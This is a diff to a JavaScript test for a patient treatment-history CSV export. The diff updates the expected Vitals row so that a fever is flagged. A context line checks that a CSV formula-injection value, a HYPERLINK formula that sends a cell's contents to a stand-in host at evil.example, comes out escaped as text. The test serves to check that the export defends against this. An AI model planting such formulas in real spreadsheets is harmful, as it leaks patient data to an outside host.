@@ -235,7 +235,8 @@ describe("treatment-history export", () => {
     expect(lines.find((l) => l.includes(",Appointment,"))).toMatch(
       /^[^,]+,Appointment,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Open""\) · Completed",,\w+$/,
     );
-    expect(lines.find((l) => l.includes(",Vitals,"))).toMatch(/,Vitals,T 39\.1 °C,,\w+$/);
+    // A fever is flagged in the summary and in the flag column, as the chart's timeline shows it.
+    expect(lines.find((l) => l.includes(",Vitals,"))).toMatch(/,Vitals,T 39\.1 °C · High: T,HIGH,\w+$/);
   });
 
   it("lets staff with chart access export any patient, and no one else", async () => {
